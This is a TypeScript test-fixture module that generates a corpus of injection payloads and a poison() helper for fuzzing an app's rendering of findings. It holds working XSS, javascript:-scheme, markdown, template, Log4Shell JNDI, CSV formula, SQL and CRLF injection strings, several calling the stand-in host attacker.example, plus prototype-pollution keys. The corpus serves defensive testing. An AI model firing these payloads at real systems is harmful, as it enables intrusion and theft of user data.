/**
 * What a finding may hold, made from parts: each way to run something, in each place that it could break out of. All of it calls
 * `alert`, sets `window.owned`, or asks attacker.example, so that a success is seen.
 */

const CALL = 'alert(window.owned=1)';
const HOST = 'attacker.example';

const scripts = [
  `<script>${CALL}</script>`,
  `<script src=//${HOST}/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="https://${HOST}/pixel.png">`,
  `<svg/onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<object data="https://${HOST}/x"></object>`,
  `<embed src="https://${HOST}/x">`,
  `<link rel=stylesheet href="https://${HOST}/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<base href="https://${HOST}/">`,
  `<form action="https://${HOST}/"><button autofocus>x</button></form>`,
  `<style>@import url(https://${HOST}/x.css);*{display:none}</style>`,
  `<a href="javascript:${CALL}" onmouseover=${CALL}>x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<body onpageshow=${CALL}>`,
];

const outOf = ['', '">', "'>", '</textarea>', '</title></style></script>', '--><!--', ']]>', '`}}'];

const schemes = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61vascript&colon;${CALL}`,
  `%6Aavascript:${CALL}`,
  `javascript://%0a${CALL}//https://x.example`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `blob:https://${HOST}/1`,
  `file:///etc/passwd`,
  `view-source:https://${HOST}`,
  `//${HOST}/x`,
  `\\\\${HOST}\\x`,
  `/\\${HOST}`,
  `https:${HOST}/x`,
  `https://app.example@${HOST}/x`,
  `https://${HOST}/?x=[y](z)`,
];

const inMarkdown: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][y]\n\n[y]: ${address}`,
  (address) => `![x](<${address}> "x\\"onerror=${CALL}")`,
];

const encoded = [
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\uFF1Cscript\uFF1E${CALL}\uFF1C/script\uFF1E`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<scr<script>ipt>${CALL}</script>`,
  `<ſcript>${CALL}</ſcript>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `\u2028<script>${CALL}</script>\u2029`,
  `\\";${CALL}//`,
];

const markdown = [
  '```\n<script>alert(1)</script>\n```\n</code></pre><img src=x onerror=alert(1)>',
  `\`<img src=x onerror=${CALL}>`,
  `[![x](javascript:${CALL})](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `[x](https://x.example "onmouseover=${CALL} ")`,
  `|<img src=x onerror=${CALL}>|\n|-|\n|[x](javascript:${CALL})|`,
  `- [ ] <input onfocus=${CALL} autofocus>`,
  `<CobaltImageAttachment at_x" onerror="${CALL}>`,
  `<CobaltImageAttachment at_none>`,
  `[^1]\n\n[^1]: <img src=x onerror=${CALL}>`,
  `# <svg/onload=${CALL}>`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `[x]: javascript:${CALL}\n\n[x]`,
  `${'>'.repeat(80)} deep`,
  '['.repeat(200),
  `~~~js\n${CALL}`,
];

const bidi = [
  '\u202Egpj.exe\u202C',
  '\u2066\u202Emoc.elpmaxe\u2069',
  '\u200Fhttps://x.example/\u202Etxt.exe',
  'pay\u200Bpal\u200D.com\uFEFF',
  '\u0430pple.com',
  `x${'\u0301'.repeat(60)}`,
  '\uD83D broken \uDE00',
  '\u061C\u2067\u202B deep \u202B\u202B\u202B',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}[[7*7]]',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}{{x}}',
  '@(7*7)',
  '*{T(java.lang.Runtime).getRuntime()}',
  '{service}{seconds}{title}',
  '${jndi:ldap://attacker.example/x}',
  "=cmd|'/c calc'!A0",
  "' OR 1=1; DROP TABLE findings;--",
  '\u001b]8;;https://attacker.example\u0007x',
  'X\r\nSet-Cookie: owned=1',
  "$& $1 $` $'",
  '%s %d %o %c',
];

const prototypes = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'toJSON',
  '$$typeof',
  'dangerouslySetInnerHTML',
  '__proto__[owned]',
  'constructor.prototype.owned',
  'ref',
  'key',
  'children',
];

/** No two alike. */
export const attacks: readonly string[] = [
  ...new Set([
    ...outOf.flatMap((end) => scripts.map((script) => end + script)),
    ...inMarkdown.flatMap((place) => schemes.map(place)),
    ...encoded,
    ...markdown,
    ...bidi,
    ...templates,
    ...prototypes,
    `${'A'.repeat(5000)}<script>${CALL}</script>`,
  ]),
];

/** The attack with this number; numbers go round. */
export function attack(number: number): string {
  return attacks[number % attacks.length]!;
}

/**
 * The value with an attack in place of every text in it, each in another place of the series. Lists of texts get all attacks where
 * `spread` says so. Keys stay, as a documented field has no other name.
 */
export function poison(value: unknown, first: number, spread = false): unknown {
  let number = first;
  const next = (one: unknown): unknown => {
    if (typeof one === 'string') return attack((number += 7));
    if (Array.isArray(one)) {
      if (!spread || one.length === 0) return one.map(next);
      return attacks.map(() => next(one[0]));
    }
    if (typeof one !== 'object' || one === null) return one;
    return Object.fromEntries(Object.entries(one).map(([name, part]) => [name, next(part)]));
  };
  return next(value);
}
